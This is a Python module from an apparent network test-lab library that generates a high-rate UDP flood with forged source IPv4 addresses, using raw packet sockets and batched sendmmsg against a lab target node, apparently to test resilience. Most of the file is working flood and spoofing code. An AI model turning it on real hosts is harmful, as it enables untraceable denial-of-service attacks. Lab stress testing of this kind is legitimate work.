"""A flood of datagrams from forged sources, as fast as one process of Python can make it.

The frames are made beforehand and handed to the kernel in batches by sendmmsg(2), on a packet
socket of the sender's interface: so a source address may be anybody's.

    with flood(attacker, target, payloads, rate=50_000) as flooding:
        ...
    flooding.report        # what was sent, in how many seconds
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import random
import signal
import socket
import struct
import time
from dataclasses import dataclass
from ipaddress import IPv4Address
from typing import TYPE_CHECKING, Any, NamedTuple

from lablib.errors import LabError
from lablib.waiting import wait_until

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from lablib.node import Node

BATCH = 64
SOURCES = IPv4Address("10.128.0.0")  # 2^22 addresses from here on, none of them anybody's
SOURCES_BITS = 22
START_TIMEOUT = 30.0
ETHERTYPE_IPV4 = 0x0800
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20  # linux/if_packet.h
_IPV4 = struct.Struct("!BBHHHBBH4s4s")
_UDP = struct.Struct("!HHHH")
_IOVEC = struct.Struct("@PN")  # struct iovec
_MESSAGE = struct.Struct("@PI4xPNPNi4xI4x")  # struct mmsghdr, on a 64-bit machine


@dataclass(frozen=True, slots=True)
class FloodReport:
    """What was sent."""

    sent: int
    seconds: float

    @property
    def rate(self) -> float:
        """Datagrams a second."""
        return self.sent / self.seconds


class Flood:
    """A flood under way."""

    def __init__(self, report: FloodReport | None = None) -> None:
        self.report = report


@contextlib.contextmanager
def flood(
    attacker: Node,
    target: Node,
    payloads: Sequence[bytes],
    *,
    rate: float,
    port: int = 51820,
    forged: bool = True,
    seed: int = 1,
) -> Iterator[Flood]:
    """Flood a port of `target` until the block ends; its `report` is there afterwards.

    Both are on one wire.  The payloads are sent in turn, again and again; each of them always from
    the same source, which is the attacker's own address unless it is `forged`.
    """
    frames = _frames(attacker, target, payloads, port, random.Random(seed) if forged else None)
    interface = attacker.member.port.interface
    running = attacker.namespace.background_call(
        lambda: _send(interface, frames, rate), f"a flood of {rate:g} datagrams a second"
    )
    flooding = Flood()
    try:
        wait_until(
            lambda: running.begun() or running.process.poll() is not None,
            "the flood begins",
            timeout=START_TIMEOUT,
        )
        yield flooding
        running.process.send_signal(signal.SIGTERM)
        flooding.report = FloodReport(**running.result())
    except BaseException:
        running.cancel()
        raise


def _frames(
    attacker: Node, target: Node, payloads: Sequence[bytes], port: int, rng: random.Random | None
) -> list[bytes]:
    head = _mac(target) + _mac(attacker) + ETHERTYPE_IPV4.to_bytes(2, "big")
    frames = []
    for payload in payloads:
        source = attacker.ipv4.ip if rng is None else SOURCES + rng.getrandbits(SOURCES_BITS)
        source_port = rng.randrange(1024, 65536) if rng is not None else 40000
        udp = _UDP.pack(source_port, port, _UDP.size + len(payload), 0)  # 0: no checksum
        length = _IPV4.size + len(udp) + len(payload)
        fields = (0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP)
        addresses = source.packed, target.ipv4.ip.packed
        checksum = _checksum(_IPV4.pack(*fields, 0, *addresses))
        frames.append(head + _IPV4.pack(*fields, checksum, *addresses) + udp + payload)
    return frames


def _mac(node: Node) -> bytes:
    path = f"/sys/class/net/{node.member.port.interface}/address"
    return bytes.fromhex(node.run(["cat", path]).stdout.strip().replace(":", ""))


def _checksum(header: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def _send(interface: str, frames: list[bytes], rate: float) -> dict[str, Any]:
    """Send until SIGTERM: runs in a child."""
    stopping = False

    def stop(*_: object) -> None:
        nonlocal stopping
        stopping = True

    signal.signal(signal.SIGTERM, stop)
    opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    opened.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    opened.bind((interface, 0))
    sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
    batches = itertools.cycle(_batches(frames))
    print(flush=True)
    sent, started_at = 0, time.monotonic()
    while not stopping:
        ahead = started_at + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
        batch = next(batches)
        taken = sendmmsg(opened.fileno(), batch.messages, batch.length, 0)
        if taken < 0 and ctypes.get_errno() not in (11, 105):  # EAGAIN, ENOBUFS: as if it were lost
            raise LabError(f"sendmmsg: errno {ctypes.get_errno()}")
        sent += max(taken, 0)
    return {"sent": sent, "seconds": time.monotonic() - started_at}


class _Batch(NamedTuple):
    messages: Any
    length: int
    pointed_to: tuple[Any, ...]  # which must live as long


def _batches(frames: list[bytes]) -> list[_Batch]:
    """Return arrays for sendmmsg."""
    batches = []
    for start in range(0, len(frames), BATCH):
        some = [ctypes.create_string_buffer(f, len(f)) for f in frames[start : start + BATCH]]
        packed = b"".join(_IOVEC.pack(ctypes.addressof(f), len(f)) for f in some)
        iovecs = ctypes.create_string_buffer(packed, len(packed))
        first = ctypes.addressof(iovecs)
        packed = b"".join(
            _MESSAGE.pack(0, 0, first + index * _IOVEC.size, 1, 0, 0, 0, 0)
            for index in range(len(some))
        )
        messages = ctypes.create_string_buffer(packed, len(packed))
        batches.append(_Batch(messages, len(some), (iovecs, *some)))
    return batches
